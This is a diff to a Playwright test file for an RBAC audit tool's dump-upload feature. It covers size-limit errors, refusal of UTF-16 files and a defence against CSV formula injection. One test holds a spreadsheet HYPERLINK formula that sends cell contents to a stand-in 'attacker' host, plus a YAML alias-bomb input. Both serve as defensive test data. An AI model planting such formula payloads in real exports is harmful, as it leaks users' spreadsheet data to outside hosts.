@@ -56,7 +56,12 @@ test.describe('offline audits: uploading dumps', () => {
       multipart: { files: { name: 'huge.yaml', mimeType: 'application/yaml', buffer: big } },
     });
     expect(tooBig.status()).toBe(413);
-    expect((await tooBig.json()).error).toMatch(/over the 50\.0 MB limit/);
+    const tooBigError = (await tooBig.json()).error as string;
+    expect(tooBigError).toMatch(
+      /^the upload is 51\.1 MB \([\d,]+ bytes\), over the 50 MB limit \(52,428,800 bytes\)/,
+    );
+    // Each upload replaces the last, so splitting cannot help: it is not advised.
+    expect(tooBigError).not.toMatch(/split/i);
 
     let bomb = 'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n';
     for (let i = 1; i < 9; i++)
@@ -95,5 +100,66 @@ test.describe('offline audits: uploading dumps', () => {
     const health = await request.get(`${app.url}/api/health`);
     expect(health.status()).toBe(200);
     expect((await health.json()).source.kind).toBe('demo');
+  });
+
+  test('a dump saved as UTF-16 (PowerShell >) is refused with "save the file as UTF-8"', async ({
+    page,
+    request,
+  }) => {
+    const yaml =
+      'apiVersion: v1\nkind: ServiceAccount\nmetadata:\n  name: a\n  namespace: default\n';
+    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(yaml, 'utf16le')]);
+    const res = await request.post(`${app.url}/api/upload`, {
+      multipart: { files: { name: 'rbac.yaml', mimeType: 'application/yaml', buffer: utf16 } },
+    });
+    expect(res.status()).toBe(400);
+    const body = await res.json();
+    expect(body.errors.map((e: { text: string }) => e.text)).toEqual([
+      expect.stringMatching(/^rbac\.yaml: the file is UTF-16.*save the file as UTF-8$/),
+    ]);
+
+    await page.goto(`${app.url}/upload`);
+    await page
+      .getByTestId('file-input')
+      .setInputFiles({ name: 'powershell.yaml', mimeType: 'application/yaml', buffer: utf16 });
+    await expect(page.getByTestId('upload-errors')).toContainText(
+      'powershell.yaml: the file is UTF-16',
+    );
+    await expect(page.getByTestId('upload-errors')).toContainText('save the file as UTF-8');
+    await expect(page.getByTestId('upload-errors')).not.toContainText('Kubernetes object');
+    await expect(page.getByTestId('source')).toContainText('Demo cluster');
+  });
+
+  test('a subject name that is a spreadsheet formula is exported as text', async ({ request }) => {
+    const name = '=HYPERLINK("http://attacker/?"&A1,"open")';
+    const dump = [
+      'apiVersion: rbac.authorization.k8s.io/v1',
+      'kind: ClusterRole',
+      'metadata: {name: secret-reader}',
+      'rules: [{apiGroups: [""], resources: [secrets], verbs: [get]}]',
+      '---',
+      'apiVersion: rbac.authorization.k8s.io/v1',
+      'kind: ClusterRoleBinding',
+      'metadata: {name: formula}',
+      'roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: secret-reader}',
+      `subjects: [{kind: User, apiGroup: rbac.authorization.k8s.io, name: '${name}'}]`,
+      '',
+    ].join('\n');
+    const up = await request.post(`${app.url}/api/upload`, {
+      multipart: {
+        files: { name: 'formula.yaml', mimeType: 'application/yaml', buffer: Buffer.from(dump) },
+      },
+    });
+    expect(up.status()).toBe(200);
+    try {
+      const csv = await (
+        await request.get(`${app.url}/api/findings?format=csv&rule=read-secrets`)
+      ).text();
+      const row = csv.split('\r\n')[1]!;
+      expect(row).toContain(`,"'=HYPERLINK(""http://attacker/?""&A1,""open"")",`);
+      expect(row).not.toMatch(/,"?=HYPERLINK/);
+    } finally {
+      await request.delete(`${app.url}/api/upload`);
+    }
   });
 });
